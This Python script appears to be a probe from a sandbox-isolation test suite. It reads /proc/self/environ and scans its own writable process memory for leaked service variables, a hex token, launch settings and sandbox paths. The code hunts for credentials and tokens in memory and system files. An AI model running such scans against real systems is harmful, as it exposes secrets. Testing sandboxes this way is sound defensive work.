"""What the template and init knew, looked for in all of the program's own memory, freed or not."""

import os
import re

import attack

# Written so that a search does not find what it searches for: in the pattern itself, which is in memory as well.
# A name of one or two letters, such as the shell's _, stands in random bytes by chance; environment() looks for it too.
NAMES = "|".join(re.escape(name) for name in attack.PARAMETERS["names"] if len(name) > 2)
PATTERNS = {
    "variables of the service": rf"\0(?:{NAMES})[=]",
    "token in a greeting": r'"token"[ ]*[:][ ]*"[0-9a-f]{32}',
    "launch specification": r'"(?:socketDirs|cgroups|remove)"[ ]*[:][ ]*["\[{]',
    "paths of the service": r"/(?:tmp/iso-[0-9]|sys/fs/cgroup/[a-z0-9_,/.-]*iso-[0-9])",
}
STEP, OVERLAP = 1 << 20, 1 << 10


def regions() -> list[tuple[int, int]]:
    """What can be written to: a file that is mapped to be read holds nothing of ours."""
    found = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            area, rights = line.split()[:2]
            if rights.startswith("rw"):
                begin, _, end = area.partition("-")
                found.append((int(begin, 16), int(end, 16)))
    return found


def search(pattern: str) -> list[str]:
    wanted = re.compile(pattern.encode())
    hits: list[str] = []
    seen = 0
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for begin, end in regions():
            for start in range(begin, end, STEP):
                try:
                    data = os.pread(memory.fileno(), min(STEP + OVERLAP, end - start), start)
                except OSError:
                    continue  # a guard page, or reserved for more
                seen += len(data)
                hits += [
                    data[hit.start() : hit.start() + 60].decode("latin-1")
                    for hit in wanted.finditer(data)
                ]
    if not hits:
        raise attack.Denied(f"not in {seen >> 10} KiB")
    return hits[:4]


def environment() -> list[str]:
    with open("/proc/self/environ", "rb") as file:
        return [
            line.decode()
            for line in file.read().split(b"\0")
            if line.partition(b"=")[0].decode() in attack.PARAMETERS["names"]
        ]


attack.attempt("/proc/self/environ", environment)
for name, pattern in PATTERNS.items():
    attack.attempt(name, lambda: search(pattern))
